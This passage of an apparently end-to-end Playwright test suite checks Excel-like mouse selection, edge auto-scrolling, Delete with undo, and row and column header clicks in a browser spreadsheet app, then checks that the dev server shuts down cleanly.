    expect([await cell(page, "C11"), await cell(page, "D11")]).toEqual(["250,000.00", "250,000.00"]);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("the mouse selects as Excel's: a drag the range to the cell under the pointer, scrolling on past the grid's bottom and right edges and ending on a release anywhere; Delete clears a dragged range, one undo brings it back; a right-click keeps a selection it is inside and selects a cell outside it", async () => {
    const { page, errors } = await openWorkbench(browser);
    const centre = async (a1: string) => {
      const box = (await page.locator(`td[data-cell="${a1}"]`).boundingBox())!;
      return [box.x + box.width / 2, box.y + box.height / 2] as const;
    };
    const nameBox = () => page.inputValue("#address");
    const focused = () => page.evaluate(() => document.activeElement?.id);
    // Growth's budgets and what follows them: dragged over from B10 to C11, across and down.
    const dragged = ["B10", "C10", "B11", "C11"];
    const before = await Promise.all(dragged.map((a1) => cell(page, a1)));
    expect(before.every((shown) => shown !== "")).toBe(true);
    await page.mouse.move(...(await centre("B10")));
    await page.mouse.down();
    await page.mouse.move(...(await centre("C10")), { steps: 3 });
    expect(await nameBox()).toBe("B10:C10"); // the selection follows the pointer while the button is held
    await page.mouse.move(...(await centre("C11")), { steps: 3 });
    await page.mouse.up();
    expect(await nameBox()).toBe("B10:C11");
    expect(await page.locator("td.in-range").count()).toBe(4);
    // Released, the pointer moves on without selecting.
    await page.mouse.move(...(await centre("E14")), { steps: 3 });
    expect(await nameBox()).toBe("B10:C11");
    // Delete clears the dragged range; one undo brings all of it back.
    await page.keyboard.press("Delete");
    expect(await Promise.all(dragged.map((a1) => cell(page, a1)))).toEqual(["", "", "", ""]);
    await page.keyboard.press("Control+z");
    expect(await Promise.all(dragged.map((a1) => cell(page, a1)))).toEqual(before);
    // A right-click inside the selection keeps it; outside, it selects the cell; neither opens an entry.
    await page.mouse.click(...(await centre("C11")), { button: "right" });
    expect(await nameBox()).toBe("B10:C11");
    await page.mouse.click(...(await centre("E14")), { button: "right" });
    expect(await nameBox()).toBe("E14");
    expect(await focused()).toBe("grid");
    // Held past the grid's bottom edge (over the sheet tabs), the view scrolls on and the selection with it, as Excel's.
    const grid = (await page.locator("#grid").boundingBox())!;
    const [c12x, c12y] = await centre("C12");
    await page.mouse.move(c12x, c12y);
    await page.mouse.down();
    await page.mouse.move(c12x, grid.y + grid.height + 15, { steps: 4 });
    await page.waitForFunction(() => document.getElementById("grid")!.scrollTop > 22 * 20, undefined, { timeout: 10_000 });
    const downTo = await nameBox();
    expect(downTo).toMatch(/^C12:C\d+$/);
    expect(Number(downTo.replace(/^C12:C/, ""))).toBeGreaterThan(40);
    // Released out there, the drag ends: back over the grid, nothing moves with the pointer.
    await page.mouse.up();
    const ended = await nameBox();
    await page.mouse.move(grid.x + 300, grid.y + 200, { steps: 4 });
    expect(await nameBox()).toBe(ended);
    // Past the right edge (over the pane): the view scrolls right, the columns selected with it.
    await page.keyboard.press("Control+Home");
    // The column at the grid's right edge before the drag: the drag goes past it.
    const edge = await page.evaluate(([x, y]) => document.elementFromPoint(x, y)?.closest("td")?.getAttribute("aria-colindex"), [grid.x + grid.width - 20, c12y]);
    await page.mouse.move(c12x, c12y);
    await page.mouse.down();
    await page.mouse.move(grid.x + grid.width + 30, c12y, { steps: 4 });
    await page.waitForFunction(() => document.getElementById("grid")!.scrollLeft > 64 * 10, undefined, { timeout: 10_000 });
    await page.mouse.up();
    const across = await nameBox();
    expect(across).toMatch(/^C12:[A-Z]+12$/);
    const columnNumber = [...across.replace(/^C12:|12$/g, "")].reduce((n, letter) => n * 26 + letter.charCodeAt(0) - 64, 0);
    expect(columnNumber).toBeGreaterThan(Number(edge) - 1 + 5); // aria-colindex counts the row numbers: five columns past the edge
    expect(await focused()).toBe("grid");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("Delete on a whole column, and its undo, keep the view where it was, as in Excel; keys that extend the selection still follow its far corner", async () => {
    const { page, errors } = await openWorkbench(browser);
    const top = () => page.$eval("#grid", (grid) => grid.scrollTop);
    // A value typed at D400: column D's used rows go far past the view.
    await page.fill("#address", "D400");
    await page.press("#address", "Enter");
    await page.keyboard.type("far");
    await page.keyboard.press("Enter");
    await page.keyboard.press("Control+Home");
    expect(await top()).toBe(0);
    await page.locator('#grid thead th:text-is("D")').click();
    expect(await page.inputValue("#address")).toBe("D1:D400");
    const d12 = await cell(page, "D12");
    expect(d12).not.toBe("");
    await page.keyboard.press("Delete");
    expect(await top()).toBe(0);
    expect(await cell(page, "D12")).toBe("");
    await page.keyboard.press("Control+z");
    expect(await top()).toBe(0);
    expect(await cell(page, "D12")).toBe(d12);
    await page.keyboard.press("Control+y");
    expect(await top()).toBe(0);
    expect(await cell(page, "D12")).toBe("");
    // Keys that extend the selection: the view follows its moving corner down to D400.
    await page.fill("#address", "D12");
    await page.press("#address", "Enter");
    await page.keyboard.press("Control+Shift+End");
    expect(await top()).toBeGreaterThan(0);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("a click on a column's letter selects the column as Ctrl+Space does, on a row's number the row as Shift+Space does; Shift+click widens, a drag takes several; the view stays where it is", async () => {
    const { page, errors } = await openWorkbench(browser);
    const nameBox = () => page.inputValue("#address");
    const header = (text: string) => page.locator(`#grid thead th:text-is("${text}")`);
    const rowNumber = (n: number) => page.locator(`#grid tr[aria-rowindex="${n + 1}"] th.row`);
    // A value typed at D200: the used rows go down to 200, past the view.
    await page.fill("#address", "D200");
    await page.press("#address", "Enter");
    await page.keyboard.type("far");
    await page.keyboard.press("Enter");
    // What the keys select, the mouse selects: Ctrl+Space on D12 is the column down the used rows, Shift+Space the row across the used columns.
    await page.fill("#address", "D12");
    await page.press("#address", "Enter");
    await page.keyboard.press("Control+Space");
    const columnD = await nameBox();
    expect(columnD).toBe("D1:D200");
    const lastRow = "200";
    await page.fill("#address", "D12");
    await page.press("#address", "Enter");
    await page.keyboard.press("Shift+Space");
    const row12 = await nameBox();
    expect(row12).toMatch(/^A12:[K-Z]12$/);
    const lastColumn = row12.replace(/^A12:|12$/g, "");
    // At the top of the sheet, a click on a letter keeps the view (Excel does not jump to the column's end).
    await page.keyboard.press("Control+Home");
    expect(await page.$eval("#grid", (grid) => grid.scrollTop)).toBe(0);
    await header("D").click();
    expect(await nameBox()).toBe(columnD);
    expect(await page.$eval("#grid", (grid) => grid.scrollTop)).toBe(0);
    await header("F").click({ modifiers: ["Shift"] });
    expect(await nameBox()).toBe(`D1:F${lastRow}`);
    // A drag over the letters from C to E: three columns.
    const [c, e] = [(await header("C").boundingBox())!, (await header("E").boundingBox())!];
    await page.mouse.move(c.x + c.width / 2, c.y + c.height / 2);
    await page.mouse.down();
    await page.mouse.move(e.x + e.width / 2, e.y + e.height / 2, { steps: 4 });
    await page.mouse.up();
    expect(await nameBox()).toBe(`C1:E${lastRow}`);
    // A double click on a letter selects its column and opens no entry (a double click on a cell edits it).
    await header("C").dblclick();
    expect(await nameBox()).toBe(`C1:C${lastRow}`);
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("grid");
    await page.dblclick('td[data-cell="C12"]');
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("formula");
    await page.keyboard.press("Escape");
    // The row numbers: a click, Shift+click, a drag.
    await rowNumber(12).click();
    expect(await nameBox()).toBe(row12);
    await rowNumber(14).click({ modifiers: ["Shift"] });
    expect(await nameBox()).toBe(`A12:${lastColumn}14`);
    const [r13, r16] = [(await rowNumber(13).boundingBox())!, (await rowNumber(16).boundingBox())!];
    await page.mouse.move(r13.x + r13.width / 2, r13.y + r13.height / 2);
    await page.mouse.down();
    await page.mouse.move(r16.x + r16.width / 2, r16.y + r16.height / 2, { steps: 4 });
    await page.mouse.up();
    expect(await nameBox()).toBe(`A13:${lastColumn}16`);
    expect(await page.locator(`td.in-range[data-cell="${lastColumn}16"]`).count()).toBe(1);
    // A right-click on a row inside the selection keeps it; on a letter outside it, selects that column.
    await rowNumber(15).click({ button: "right" });
    expect(await nameBox()).toBe(`A13:${lastColumn}16`);
    await header("B").click({ button: "right" });
    expect(await nameBox()).toBe(`B1:B${lastRow}`);
    // The corner above the row numbers: the used range.
    await page.click("#grid th.corner");
    expect(await nameBox()).toBe(`A1:${lastColumn}${lastRow}`);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("ends cleanly on npm stop", async () => {
    const stop = spawnSync(process.execPath, [path.join(root, "scripts", "stop.js")], { cwd: root, env: DEV_ENV, encoding: "utf8" });
    expect(stop.status).toBe(0);
    expect(stop.stdout).toContain(`Stopped the dev server on port ${PORT}`);
    const { code } = await server.exited;
    expect(code).toBe(0);
    expect(fs.existsSync(path.join(root, `.dev-server-${PORT}.pid`))).toBe(false);
  });
});
